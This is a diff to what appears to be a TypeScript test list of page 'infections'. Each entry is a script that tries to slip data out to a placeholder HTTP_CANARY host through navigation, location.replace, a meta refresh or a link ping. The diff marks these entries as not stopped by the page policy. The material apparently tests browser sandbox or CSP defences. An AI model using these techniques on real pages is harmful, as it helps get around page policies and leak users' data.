@@ -3,7 +3,7 @@ export type Infection = {
   readonly name: string
   /** JavaScript that may use `await` and `say(text)`. */
   readonly script: string
-  /** No policy of a page stops it: named in the README. */
+  /** No policy of a page keeps it from opening a connection or sending a datagram: named in the README. */
   readonly isNotCovered?: true
 }
 
@@ -11,15 +11,26 @@ const append = (tag: string, properties: string, parent = 'body') =>
   `document.${parent}.append(Object.assign(document.createElement(${JSON.stringify(tag)}), ${properties}))`
 
 export const INFECTIONS: readonly Infection[] = [
-  { name: 'its own navigation', script: 'location.href = "HTTP_CANARY/navigated?stolen"' },
-  { name: 'a replaced location', script: 'location.replace("HTTP_CANARY/replaced?stolen")' },
+  // Chromium opens the connection before it asks the policy of the page, and then sends no request.
+  {
+    name: 'its own navigation',
+    script: 'location.href = "HTTP_CANARY/navigated?stolen"',
+    isNotCovered: true,
+  },
+  {
+    name: 'a replaced location',
+    script: 'location.replace("HTTP_CANARY/replaced?stolen")',
+    isNotCovered: true,
+  },
   {
     name: 'a refresh',
     script: append('meta', '{ httpEquiv: "refresh", content: "0;url=HTTP_CANARY/refreshed" }', 'head'),
+    isNotCovered: true,
   },
   {
     name: 'a clicked link',
     script: `${append('a', '{ id: "away", href: "HTTP_CANARY/clicked", ping: "HTTP_CANARY/ping" }')}; document.getElementById("away").click()`,
+    isNotCovered: true,
   },
   {
     name: 'a sent form',
